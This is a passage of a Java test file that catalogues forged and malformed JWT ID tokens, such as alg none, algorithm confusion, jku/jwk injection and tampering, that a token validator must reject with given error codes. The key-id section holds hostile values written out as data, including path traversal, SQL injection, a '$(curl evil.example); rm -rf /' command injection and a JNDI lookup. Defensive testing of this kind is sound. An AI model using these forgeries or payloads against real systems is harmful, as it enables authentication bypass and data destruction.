package io.identityaudit.security;

import static io.identityaudit.security.Arsenal.CLIENT_ID;
import static io.identityaudit.security.Arsenal.OKTA_TENANT;
import static io.identityaudit.security.Arsenal.OTHER_CLIENT_ID;
import static io.identityaudit.security.Arsenal.OTHER_TENANT;
import static io.identityaudit.security.Arsenal.OTHER_TENANT_CLIENT_ID;
import static io.identityaudit.security.Arsenal.T0;
import static io.identityaudit.security.Arsenal.TENANT;
import static io.identityaudit.token.ErrorCode.INVALID_AUDIENCE;
import static io.identityaudit.token.ErrorCode.INVALID_ISSUER;
import static io.identityaudit.token.ErrorCode.INVALID_SIGNATURE;
import static io.identityaudit.token.ErrorCode.MALFORMED_TOKEN;
import static io.identityaudit.token.ErrorCode.MISSING_SUBJECT;
import static io.identityaudit.token.ErrorCode.MISSING_TOKEN;
import static io.identityaudit.token.ErrorCode.TOKEN_EXPIRED;
import static io.identityaudit.token.ErrorCode.TOKEN_NOT_YET_VALID;
import static io.identityaudit.token.ErrorCode.UNKNOWN_SIGNING_KEY;
import static io.identityaudit.token.ErrorCode.UNSUPPORTED_ALGORITHM;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import io.identityaudit.demo.IdTokenMinter;
import io.identityaudit.token.ErrorCode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.security.cert.CertificateEncodingException;
import java.security.interfaces.RSAPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Function;

/**
 * Every attack token of the suite: a name, the tenant it is presented at, the code it must be rejected with, and
 * how to make it from the {@link Arsenal}. {@code docs/security.md} has one row per attack, with the same name and
 * code, saying which rule stops it; {@link SecurityDocTest} keeps the two in step.
 */
final class AttackCatalog {

    /** One attack: the token is made when the test runs, from live orgs and keys. */
    record Attack(String group, String name, String tenant, ErrorCode expected, Function<Arsenal, String> token) {

        @Override
        public String toString() {
            return name;
        }
    }

    private final List<Attack> attacks = new ArrayList<>();
    private String group;

    private AttackCatalog() {
    }

    static List<Attack> all() {
        AttackCatalog catalog = new AttackCatalog();
        catalog.unsigned();
        catalog.algorithmConfusion();
        catalog.otherAlgorithms();
        catalog.keyIds();
        catalog.keysFromTheToken();
        catalog.criticalHeaders();
        catalog.encryptedAndNested();
        catalog.tampering();
        catalog.duplicateMembers();
        catalog.audienceTypes();
        catalog.issuers();
        catalog.subjects();
        catalog.sizes();
        catalog.encodings();
        catalog.otherTenants();
        catalog.accessTokens();
        catalog.authorizedParty();
        catalog.times();
        return List.copyOf(catalog.attacks);
    }

    private void group(String name) {
        group = name;
    }

    private void add(String name, ErrorCode expected, Function<Arsenal, String> token) {
        add(name, TENANT, expected, token);
    }

    private void add(String name, String tenant, ErrorCode expected, Function<Arsenal, String> token) {
        if (name.contains("|")) {
            throw new IllegalArgumentException("the name is a Markdown table cell: " + name);
        }
        attacks.add(new Attack(group, name, tenant, expected, token));
    }

    // --- alg: none -----------------------------------------------------------------------------------------------

    private void unsigned() {
        group("Unsigned tokens (alg none)");
        for (String none : List.of("none", "None", "NONE", "nOnE")) {
            add("alg " + none + ", empty signature", UNSUPPORTED_ALGORITHM,
                    a -> Jose.compact("{\"alg\":\"" + none + "\"}", a.claimsJson(), ""));
        }
        add("alg none with the org's kid and the signature of a genuine token", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("none", a.orgKid()), a.claimsJson(), a.genuine().split("\\.")[2]));
        add("alg none, no signature part (two parts)", MALFORMED_TOKEN,
                a -> Jose.b64("{\"alg\":\"none\"}") + "." + Jose.b64(a.claimsJson()));
        add("alg NONE, no signature part (two parts)", MALFORMED_TOKEN,
                a -> Jose.b64("{\"alg\":\"NONE\"}") + "." + Jose.b64(a.claimsJson()));
        add("no alg member", MALFORMED_TOKEN,
                a -> Jose.compact("{\"kid\":" + Jose.quoted(a.orgKid()) + "}", a.claimsJson(), ""));
        add("alg null", MALFORMED_TOKEN,
                a -> Jose.compact("{\"alg\":null,\"kid\":" + Jose.quoted(a.orgKid()) + "}", a.claimsJson(), ""));
        add("alg as an array [\"RS256\"]", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":[\"RS256\"],\"kid\":" + Jose.quoted(a.orgKid()) + "}",
                        a.claimsJson()));
        add("alg rs256 in lower case, genuine RS256 signature", UNSUPPORTED_ALGORITHM,
                a -> Jose.rs256(a.orgKey(), Jose.header("rs256", a.orgKid()), a.claimsJson()));
        add("alg 'RS256 ' with a trailing space, genuine RS256 signature", UNSUPPORTED_ALGORITHM,
                a -> Jose.rs256(a.orgKey(), Jose.header("RS256 ", a.orgKid()), a.claimsJson()));
    }

    // --- HS* keyed with the org's public key ---------------------------------------------------------------------

    private void algorithmConfusion() {
        group("Algorithm confusion (HMAC keyed with the org's public key)");
        Map<String, Function<RSAKey, byte[]>> encodings = new LinkedHashMap<>();
        encodings.put("DER bytes", key -> publicDer(key));
        encodings.put("PEM text", key -> Jose.pem(publicKey(key)).getBytes(StandardCharsets.US_ASCII));
        encodings.put("JWK JSON", key -> key.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8));
        for (JWSAlgorithm hmac : List.of(JWSAlgorithm.HS256, JWSAlgorithm.HS384, JWSAlgorithm.HS512)) {
            encodings.forEach((encoding, secret) -> add(hmac + " keyed with the org's public key as " + encoding,
                    UNSUPPORTED_ALGORITHM, a -> Jose.hmac(hmac, secret.apply(a.orgKey()),
                            Jose.header(hmac.getName(), a.orgKid()), a.claimsJson())));
        }
        add("alg RS256 in the header, HMAC-SHA256 signature keyed with the public key", INVALID_SIGNATURE,
                a -> Jose.hmac(JWSAlgorithm.HS256, publicDer(a.orgKey()), Jose.header("RS256", a.orgKid()),
                        a.claimsJson()));
    }

    private static RSAPublicKey publicKey(RSAKey key) {
        try {
            return key.toRSAPublicKey();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The SubjectPublicKeyInfo DER bytes: what {@code PublicKey.getEncoded()} gives. */
    private static byte[] publicDer(RSAKey key) {
        return publicKey(key).getEncoded();
    }

    // --- other algorithms ----------------------------------------------------------------------------------------

    private void otherAlgorithms() {
        group("Other algorithms (only RS256 is accepted)");
        add("ES256 with an all-zero signature (psychic signature, CVE-2022-21449)", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("ES256", a.orgKid()), a.claimsJson(), Jose.b64(new byte[64])));
        add("ES256 with an empty signature", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("ES256", a.orgKid()), a.claimsJson(), ""));
        add("ES256 with a DER signature r = 0, s = 0", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("ES256", a.orgKid()), a.claimsJson(),
                        Jose.b64(new byte[] {0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00})));
        add("ES512 with an all-zero signature", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("ES512", a.orgKid()), a.claimsJson(), Jose.b64(new byte[132])));
        add("EdDSA with an all-zero signature", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact(Jose.header("EdDSA", a.orgKid()), a.claimsJson(), Jose.b64(new byte[64])));
        for (JWSAlgorithm other : List.of(JWSAlgorithm.PS256, JWSAlgorithm.RS384, JWSAlgorithm.RS512)) {
            add(other + " genuinely signed with the org's key", UNSUPPORTED_ALGORITHM,
                    a -> Jose.rsa(a.orgKey(), other, Jose.header(other.getName(), a.orgKid()), a.claimsJson()));
        }
    }

    // --- kid -----------------------------------------------------------------------------------------------------

    private void keyIds() {
        group("Key ids");
        add("unknown kid, signed with a key the org never published", UNKNOWN_SIGNING_KEY,
                a -> a.minter().signedWith(a.org.newSigningKey()).sign());
        Map<String, String> hostileKids = new LinkedHashMap<>();
        hostileKids.put("kid with path traversal ../../etc/passwd", "../../etc/passwd");
        hostileKids.put("kid /dev/null", "/dev/null");
        hostileKids.put("kid with SQL injection ' OR '1'='1' --", "' OR '1'='1' --");
        hostileKids.put("kid with command injection $(curl evil.example); rm -rf /", "$(curl evil.example); rm -rf /");
        hostileKids.put("kid with a JNDI lookup ${jndi:ldap://evil.example/a}", "${jndi:ldap://evil.example/a}");
        hostileKids.put("kid *", "*");
        for (Map.Entry<String, String> kid : hostileKids.entrySet()) {
            add(kid.getKey() + ", signed with the org's key", UNKNOWN_SIGNING_KEY,
                    a -> a.minter().keyId(kid.getValue()).sign());
        }
        add("the org's kid followed by NUL", UNKNOWN_SIGNING_KEY,
                a -> a.minter().keyId(a.orgKid() + "\u0000").sign());
        add("the org's kid followed by CR LF and a header line", UNKNOWN_SIGNING_KEY,
                a -> a.minter().keyId(a.orgKid() + "\r\nX-Injected: 1").sign());
        add("the org's kid in upper case", UNKNOWN_SIGNING_KEY,
                a -> a.minter().keyId(a.orgKid().toUpperCase(Locale.ROOT)).sign());
        add("kid of 10 KB", UNKNOWN_SIGNING_KEY, a -> a.minter().keyId("k".repeat(10 * 1024)).sign());
        add("empty kid", MALFORMED_TOKEN, a -> a.minter().keyId("").sign());
        add("no kid", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\"}", a.claimsJson()));
        add("kid as a number", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":1}", a.claimsJson()));
    }

    // --- jku, x5u, jwk, x5c --------------------------------------------------------------------------------------

    private void keysFromTheToken() {
        group("Keys named or embedded in the token (jku, x5u, jwk, x5c)");
        add("jku to the attacker's JWKS, attacker's kid, signed by the attacker", UNKNOWN_SIGNING_KEY,
                a -> attackerSigned(a, a.attackerKey.getKeyID(), ",\"jku\":" + Jose.quoted(a.attacker.url("/jwks.json"))));
        add("jku to the attacker's JWKS, the org's kid, signed by the attacker", INVALID_SIGNATURE,
                a -> attackerSigned(a, a.orgKid(), ",\"jku\":" + Jose.quoted(a.attacker.url("/jwks.json"))));
        add("x5u to the attacker's certificate, attacker's kid, signed by the attacker", UNKNOWN_SIGNING_KEY,
                a -> attackerSigned(a, a.attackerKey.getKeyID(), ",\"x5u\":" + Jose.quoted(a.attacker.url("/cert.pem"))));
        add("x5u to the attacker's certificate, the org's kid, signed by the attacker", INVALID_SIGNATURE,
                a -> attackerSigned(a, a.orgKid(), ",\"x5u\":" + Jose.quoted(a.attacker.url("/cert.pem"))));
        add("embedded jwk of the attacker, attacker's kid, signed by the attacker", UNKNOWN_SIGNING_KEY,
                a -> attackerSigned(a, a.attackerKey.getKeyID(),
                        ",\"jwk\":" + a.attackerKey.toPublicJWK().toJSONString()));
        add("embedded jwk of the attacker, the org's kid, signed by the attacker", INVALID_SIGNATURE,
                a -> attackerSigned(a, a.orgKid(), ",\"jwk\":" + a.attackerKey.toPublicJWK().toJSONString()));
        add("embedded x5c with the attacker's certificate, the org's kid, signed by the attacker", INVALID_SIGNATURE,
                a -> attackerSigned(a, a.orgKid(), ",\"x5c\":[" + Jose.quoted(attackerCertificate(a)) + "]"));
        add("jku, x5u, jwk and x5c together, the org's kid, signed by the attacker", INVALID_SIGNATURE,
                a -> attackerSigned(a, a.orgKid(), ",\"jku\":" + Jose.quoted(a.attacker.url("/jwks.json"))
                        + ",\"x5u\":" + Jose.quoted(a.attacker.url("/cert.pem"))
                        + ",\"jwk\":" + a.attackerKey.toPublicJWK().toJSONString()
                        + ",\"x5c\":[" + Jose.quoted(attackerCertificate(a)) + "]"));
        add("embedded jwk of the attacker and no kid", MALFORMED_TOKEN,
                a -> Jose.rs256(a.attackerKey, "{\"alg\":\"RS256\",\"jwk\":"
                        + a.attackerKey.toPublicJWK().toJSONString() + "}", a.claimsJson()));
        add("embedded jwk with the attacker's private key", MALFORMED_TOKEN,
                a -> attackerSigned(a, a.orgKid(), ",\"jwk\":" + a.attackerKey.toJSONString()));
        add("jku that is not a URI", MALFORMED_TOKEN,
                a -> attackerSigned(a, a.orgKid(), ",\"jku\":\"::::\""));
    }

    private static String attackerSigned(Arsenal a, String kid, String moreHeader) {
        return Jose.rs256(a.attackerKey, "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(kid) + moreHeader + "}",
                a.claimsJson());
    }

    private static String attackerCertificate(Arsenal a) {
        try {
            return Base64.getEncoder().encodeToString(Jose.selfSigned(a.attackerKey).getEncoded());
        } catch (CertificateEncodingException e) {
            throw new IllegalStateException(e);
        }
    }

    // --- crit ----------------------------------------------------------------------------------------------------

    private void criticalHeaders() {
        group("Critical headers");
        add("crit naming an unknown header parameter, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid())
                        + ",\"crit\":[\"https://evil.example/must-understand\"],"
                        + "\"https://evil.example/must-understand\":true}", a.claimsJson()));
        add("crit [\"exp\"] with an exp header, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid())
                        + ",\"crit\":[\"exp\"],\"exp\":1}", a.claimsJson()));
        add("unencoded payload: b64 false, crit [\"b64\"]", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid())
                        + ",\"b64\":false,\"crit\":[\"b64\"]}", a.claimsJson()));
    }

    // --- JWE and nested tokens -----------------------------------------------------------------------------------

    private void encryptedAndNested() {
        group("Encrypted and nested tokens");
        add("JWE, RSA-OAEP-256 / A256GCM (five parts)", MALFORMED_TOKEN,
                a -> Jose.b64("{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":" + Jose.quoted(a.orgKid())
                        + "}") + "." + Jose.b64(new byte[256]) + "." + Jose.b64(new byte[12]) + "."
                        + Jose.b64(a.claimsJson()) + "." + Jose.b64(new byte[16]));
        add("JWE, dir / A256GCM with an empty key part (five parts)", MALFORMED_TOKEN,
                a -> Jose.b64("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}") + ".." + Jose.b64(new byte[12]) + "."
                        + Jose.b64(a.claimsJson()) + "." + Jose.b64(new byte[16]));
        add("nested: the org signs a JWS whose payload is a genuine ID token (cty JWT)", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid())
                        + ",\"cty\":\"JWT\"}", a.genuine()));
        add("nested: the attacker wraps a genuine ID token (cty JWT)", MALFORMED_TOKEN,
                a -> Jose.rs256(a.attackerKey, "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.attackerKey.getKeyID())
                        + ",\"cty\":\"JWT\"}", a.genuine()));
        add("nested: alg none wrapping a genuine ID token (cty JWT)", UNSUPPORTED_ALGORITHM,
                a -> Jose.compact("{\"alg\":\"none\",\"cty\":\"JWT\"}", a.genuine(), ""));
    }

    // --- tampering -----------------------------------------------------------------------------------------------

    private void tampering() {
        group("Tampering with a genuine token");
        add("payload replaced (sub of another user), original signature", INVALID_SIGNATURE, a -> {
            String[] genuine = a.orgSigned(a.claimsJson()).split("\\.");
            return genuine[0] + "." + Jose.b64(a.claimsJson(c -> c.put("sub", "00uADMIN"))) + "." + genuine[2];
        });
        add("header members reordered, original signature", INVALID_SIGNATURE, a -> {
            String[] genuine = a.orgSigned(a.claimsJson()).split("\\.");
            return Jose.b64("{\"kid\":" + Jose.quoted(a.orgKid()) + ",\"alg\":\"RS256\"}") + "." + genuine[1] + "."
                    + genuine[2];
        });
        add("signature removed (empty third part)", INVALID_SIGNATURE, a -> {
            String genuine = a.genuine();
            return genuine.substring(0, genuine.lastIndexOf('.') + 1);
        });
        add("signature of another genuine token of the org", INVALID_SIGNATURE, a -> {
            String[] genuine = a.genuine().split("\\.");
            String[] other = a.minter().claim("sub", "00uOTHER").sign().split("\\.");
            return genuine[0] + "." + genuine[1] + "." + other[2];
        });
        add("signature cut by one character", INVALID_SIGNATURE, a -> {
            String genuine = a.genuine();
            return genuine.substring(0, genuine.length() - 1);
        });
        add("signature with one character appended", INVALID_SIGNATURE, a -> a.genuine() + "A");
        add("signature repeated twice", INVALID_SIGNATURE, a -> {
            String genuine = a.genuine();
            return genuine + genuine.substring(genuine.lastIndexOf('.') + 1);
        });
        add("signature's last character changed in its unused low bits (same signature bytes)", INVALID_SIGNATURE,
                AttackCatalog::nonCanonicalSignature);
    }

    /**
     * A 2048-bit signature is 256 bytes, 342 base64url characters: the last one carries 2 bits of the signature
     * and 4 unused bits. Any of the 16 characters with the same 2 high bits decodes to the same bytes.
     */
    static String nonCanonicalSignature(Arsenal a) {
        String genuine = a.genuine();
        int last = genuine.length() - 1;
        byte[] signature = new Base64URL(genuine.substring(genuine.lastIndexOf('.') + 1)).decode();
        for (char c : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".toCharArray()) {
            String variant = genuine.substring(0, last) + c;
            if (c != genuine.charAt(last) && Arrays.equals(
                    new Base64URL(variant.substring(variant.lastIndexOf('.') + 1)).decode(), signature)) {
                return variant;
            }
        }
        throw new IllegalStateException("no non-canonical variant of the signature");
    }

    // --- duplicate JSON members ----------------------------------------------------------------------------------

    private void duplicateMembers() {
        group("Duplicate JSON members");
        add("header with two alg: RS256 then none", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":" + Jose.quoted(a.orgKid())
                        + "}", a.claimsJson()));
        add("header with two alg: none then RS256", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid())
                        + "}", a.claimsJson()));
        add("header with two kid: the attacker's then the org's", MALFORMED_TOKEN,
                a -> Jose.rs256(a.attackerKey, "{\"alg\":\"RS256\",\"kid\":"
                        + Jose.quoted(a.attackerKey.getKeyID()) + ",\"kid\":" + Jose.quoted(a.orgKid()) + "}",
                        a.claimsJson()));
        for (String claim : List.of("sub", "iss", "aud", "exp")) {
            add("claims with two " + claim + ", signed with the org's key", MALFORMED_TOKEN,
                    a -> a.orgSigned(a.claimsWithRaw(claim, secondValue(a, claim)).replaceFirst("^\\{",
                            "{" + Jose.quoted(claim) + ":" + firstValue(a, claim) + ",")));
        }
        add("claims with sub and an escaped \\u0073ub, signed with the org's key", MALFORMED_TOKEN,
                a -> a.orgSigned(a.claimsJson().replaceFirst("^\\{", "{\"\\\\u0073ub\":\"00uADMIN\",")));
    }

    private static String firstValue(Arsenal a, String claim) {
        return switch (claim) {
            case "sub" -> "\"00uADMIN\"";
            case "iss" -> "\"https://evil.example\"";
            case "aud" -> "\"0oaEVIL\"";
            default -> String.valueOf(T0.plusSeconds(86_400 * 365).getEpochSecond());
        };
    }

    private static String secondValue(Arsenal a, String claim) {
        return switch (claim) {
            case "sub" -> Jose.quoted(IdTokenMinter.USER_ID);
            case "iss" -> Jose.quoted(a.org.issuer());
            case "aud" -> Jose.quoted(CLIENT_ID);
            default -> String.valueOf(Arsenal.ISSUED_AT.getEpochSecond() + 3600);
        };
    }

    // --- aud -----------------------------------------------------------------------------------------------------

    private void audienceTypes() {
        group("Audience of the wrong type or value (signed with the org's key)");
        Map<String, String> audiences = new LinkedHashMap<>();
        audiences.put("aud as a number", "12345");
        audiences.put("aud as an object holding the client ID", "{\"0\":\"" + CLIENT_ID + "\"}");
        audiences.put("aud array with the client ID and a number", "[\"" + CLIENT_ID + "\",1]");
        audiences.put("aud as an empty array", "[]");
        audiences.put("aud as a nested array [[client ID]]", "[[\"" + CLIENT_ID + "\"]]");
        audiences.put("aud null", "null");
        audiences.put("aud true", "true");
        audiences.put("aud with the client ID in upper case", "\"" + CLIENT_ID.toUpperCase(Locale.ROOT)
                + "\"");
        audiences.put("aud with the client ID and a trailing space", "\"" + CLIENT_ID + " \"");
        audiences.forEach((name, aud) -> add(name, INVALID_AUDIENCE, a -> a.orgSigned(a.claimsWithRaw("aud", aud))));
        add("no aud", INVALID_AUDIENCE, a -> a.orgSigned(a.claimsJson(c -> c.remove("aud"))));
    }

    // --- iss -----------------------------------------------------------------------------------------------------

    private void issuers() {
        group("Issuer not exactly https://{domain} (signed with the org's key)");
        Map<String, Function<Arsenal, String>> issuers = new LinkedHashMap<>();
        issuers.put("iss as a number", a -> "1");
        issuers.put("iss as an array holding the issuer", a -> "[" + Jose.quoted(a.org.issuer()) + "]");
        issuers.put("iss as an object", a -> "{\"iss\":" + Jose.quoted(a.org.issuer()) + "}");
        issuers.put("iss null", a -> "null");
        issuers.put("iss with a trailing slash", a -> Jose.quoted(a.org.issuer() + "/"));
        issuers.put("iss with http://", a -> Jose.quoted(a.org.issuer().replace("https://", "http://")));
        issuers.put("iss with the host in upper case", a -> Jose.quoted("https://LOCALHOST:" + port(a)));
        issuers.put("iss with a path (custom authorization server)",
                a -> Jose.quoted(a.org.issuer() + "/oauth2/default"));
        issuers.put("iss with another port", a -> Jose.quoted("https://localhost:" + (port(a) == 1 ? 2 : 1)));
        issuers.put("iss without the port", a -> Jose.quoted("https://localhost"));
        issuers.put("iss with user information", a -> Jose.quoted("https://user@" + a.org.domain()));
        issuers.put("iss followed by NUL", a -> Jose.quoted(a.org.issuer() + "\u0000"));
        issuers.put("iss followed by a space", a -> Jose.quoted(a.org.issuer() + " "));
        issuers.put("iss with a Cyrillic o look-alike", a -> Jose.quoted(a.org.issuer().replace("lo", "l\u043e")));
        issuers.forEach((name, iss) -> add(name, INVALID_ISSUER, a -> a.orgSigned(a.claimsWithRaw("iss", iss.apply(a)))));
        add("no iss", INVALID_ISSUER, a -> a.orgSigned(a.claimsJson(c -> c.remove("iss"))));

        Map<String, String> oktaIssuers = new LinkedHashMap<>();
        oktaIssuers.put("iss https://acme.okta.com:443 at a tenant on acme.okta.com", "https://acme.okta.com:443");
        oktaIssuers.put("iss https://ACME.OKTA.COM at a tenant on acme.okta.com", "https://ACME.OKTA.COM");
        oktaIssuers.put("iss https://acme.okta.com. (trailing dot) at a tenant on acme.okta.com",
                "https://acme.okta.com.");
        oktaIssuers.put("iss https://acme.okta.com/ at a tenant on acme.okta.com", "https://acme.okta.com/");
        oktaIssuers.put("iss http://acme.okta.com at a tenant on acme.okta.com", "http://acme.okta.com");
        oktaIssuers.put("iss https://acme.okta.com/oauth2/default at a tenant on acme.okta.com",
                "https://acme.okta.com/oauth2/default");
        oktaIssuers.forEach((name, iss) -> add(name, OKTA_TENANT, INVALID_ISSUER,
                a -> a.orgSigned(Jose.json(oktaClaims(iss)))));
    }

    private static Map<String, Object> oktaClaims(String issuer) {
        return Arsenal.claims(issuer, CLIENT_ID);
    }

    private static int port(Arsenal a) {
        return Integer.parseInt(a.org.domain().substring(a.org.domain().indexOf(':') + 1));
    }

    // --- sub -----------------------------------------------------------------------------------------------------

    private void subjects() {
        group("Subject missing or not a string");
        Map<String, String> subjects = new LinkedHashMap<>();
        subjects.put("sub as a number, signed with the org's key", "12345");
        subjects.put("sub as an array, signed with the org's key", "[\"" + IdTokenMinter.USER_ID + "\"]");
        subjects.put("sub as an object, signed with the org's key", "{\"id\":\"" + IdTokenMinter.USER_ID + "\"}");
        subjects.put("sub empty, signed with the org's key", "\"\"");
        subjects.put("sub blank, signed with the org's key", "\"   \"");
        subjects.put("sub null, signed with the org's key", "null");
        subjects.forEach((name, sub) -> add(name, MISSING_SUBJECT, a -> a.orgSigned(a.claimsWithRaw("sub", sub))));
        add("sub as a number, forged", INVALID_SIGNATURE, a -> a.forged(a.claimsWithRaw("sub", "12345")));
    }

    // --- sizes ---------------------------------------------------------------------------------------------------

    private void sizes() {
        group("Huge tokens and claim sets");
        add("16,385 characters, one over the limit", MALFORMED_TOKEN, a -> {
            String genuine = a.genuine();
            return genuine + "A".repeat(16_385 - genuine.length());
        });
        add("1 MiB of base64url", MALFORMED_TOKEN, a -> "A".repeat(1 << 20));
        add("1 MiB of dots", MALFORMED_TOKEN, a -> ".".repeat(1 << 20));
        add("a 20 KB claim, signed with the org's key", MALFORMED_TOKEN,
                a -> a.minter().claim("groups", "g".repeat(20_000)).sign());
        add("1,000 claims within the size limit, forged", INVALID_SIGNATURE, a -> a.forged(a.claimsJson(c -> {
            for (int i = 0; i < 1000; i++) {
                c.put("c" + i, i);
            }
        })));
        add("aud array of 1,000 strings ending with the client ID, forged", INVALID_SIGNATURE, a -> {
            List<String> audience = new ArrayList<>();
            for (int i = 0; i < 999; i++) {
                audience.add("a" + i);
            }
            audience.add(CLIENT_ID);
            return a.forged(a.claimsJson(c -> c.put("aud", audience)));
        });
        add("5,000 nested arrays in a claim, signed with the org's key", MALFORMED_TOKEN,
                a -> a.orgSigned(a.claimsWithRaw("x", "[".repeat(5000) + "]".repeat(5000))));
        add("5,000 nested arrays in the header, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256(a.orgKey(), "{\"alg\":\"RS256\",\"kid\":" + Jose.quoted(a.orgKid()) + ",\"x\":"
                        + "[".repeat(5000) + "]".repeat(5000) + "}", a.claimsJson()));
        add("200 nested arrays in a claim, forged", INVALID_SIGNATURE,
                a -> a.forged(a.claimsWithRaw("x", "[".repeat(200) + "]".repeat(200))));
    }

    // --- encodings and characters --------------------------------------------------------------------------------

    private void encodings() {
        group("Encodings and characters");
        add("header with invalid UTF-8 bytes in kid, signed with the org's key", UNKNOWN_SIGNING_KEY,
                a -> Jose.rs256Bytes(a.orgKey(), bytes("{\"alg\":\"RS256\",\"kid\":\"", new byte[] {(byte) 0xff,
                        (byte) 0xfe}, "\"}"), a.claimsJson().getBytes(StandardCharsets.UTF_8)));
        add("header starting with a 0xFF byte", MALFORMED_TOKEN,
                a -> Jose.rs256Bytes(a.orgKey(), bytes("", new byte[] {(byte) 0xff}, Jose.header("RS256", a.orgKid())),
                        a.claimsJson().getBytes(StandardCharsets.UTF_8)));
        add("iss followed by an invalid UTF-8 byte, signed with the org's key", INVALID_ISSUER,
                a -> Jose.rs256Bytes(a.orgKey(), Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        withInvalidBytesAfter(a, a.org.issuer(), new byte[] {(byte) 0xff})));
        add("overlong UTF-8 quote (C0 A2) to end iss early, signed with the org's key", INVALID_ISSUER,
                a -> Jose.rs256Bytes(a.orgKey(), Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        withInvalidBytesAfter(a, a.org.issuer(), new byte[] {(byte) 0xc0, (byte) 0xa2})));
        add("sub with invalid UTF-8 bytes, forged", INVALID_SIGNATURE,
                a -> Jose.rs256Bytes(a.attackerKey, Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        withInvalidBytesAfter(a, IdTokenMinter.USER_ID, new byte[] {(byte) 0xed, (byte) 0xa0,
                                (byte) 0x80})));
        add("payload in UTF-16, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256Bytes(a.orgKey(), Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        a.claimsJson().getBytes(StandardCharsets.UTF_16)));
        // JSON texts must not start with a byte order mark (RFC 8259); the claims reader refuses it before the
        // signature is looked at, so even the org's own signature does not make such a payload an ID token.
        add("payload with a UTF-8 byte order mark, forged", MALFORMED_TOKEN,
                a -> Jose.rs256Bytes(a.attackerKey, Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        bytes("", new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, a.claimsJson())));
        add("payload with a UTF-8 byte order mark, signed with the org's key", MALFORMED_TOKEN,
                a -> Jose.rs256Bytes(a.orgKey(), Jose.header("RS256", a.orgKid()).getBytes(StandardCharsets.UTF_8),
                        bytes("", new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf}, a.claimsJson())));
        add("header and payload are JSON null", MALFORMED_TOKEN, a -> Jose.compact("null", "null", ""));
        add("payload is JSON null, signed with the org's key", MALFORMED_TOKEN,
                a -> a.orgSigned("null"));
        add("header is a JSON array", MALFORMED_TOKEN, a -> Jose.compact("[]", a.claimsJson(), ""));
        add("header is a JSON string", MALFORMED_TOKEN, a -> Jose.compact("\"RS256\"", a.claimsJson(), ""));
        add("payload is an empty JSON array, signed with the org's key", MALFORMED_TOKEN, a -> a.orgSigned("[]"));
        add("three empty parts", MALFORMED_TOKEN, a -> "..");

        Map<String, Function<String, String>> raw = new LinkedHashMap<>();
        raw.put("control character U+0001 inside", t -> insert(t, 40, "\u0001"));
        raw.put("NUL inside", t -> insert(t, 40, "\u0000"));
        raw.put("DEL inside", t -> insert(t, 40, "\u007f"));
        raw.put("non-ASCII e-acute inside", t -> insert(t, 40, "\u00e9"));
        raw.put("zero-width space inside", t -> insert(t, 40, "\u200b"));
        raw.put("Cyrillic a look-alike replacing a character", t -> t.substring(0, 40) + "\u0430" + t.substring(41));
        raw.put("fullwidth full stop instead of the first dot", t -> t.replaceFirst("\\.", "\uff0e"));
        raw.put("space inside", t -> insert(t, 40, " "));
        raw.put("newline inside", t -> insert(t, 40, "\n"));
        raw.put("tab inside", t -> insert(t, 40, "\t"));
        raw.put("trailing newline", t -> t + "\n");
        raw.put("leading space", t -> " " + t);
        raw.put("a Bearer prefix", t -> "Bearer " + t);
        raw.put("JSON quotes around it", t -> "\"" + t + "\"");
        raw.put("base64 padding == after the signature", t -> t + "==");
        raw.put("standard base64 + and / in the signature", t -> t.substring(0, t.length() - 2) + "+/");
        raw.forEach((name, edit) -> add("genuine token with " + name, MALFORMED_TOKEN, a -> edit.apply(a.genuine())));
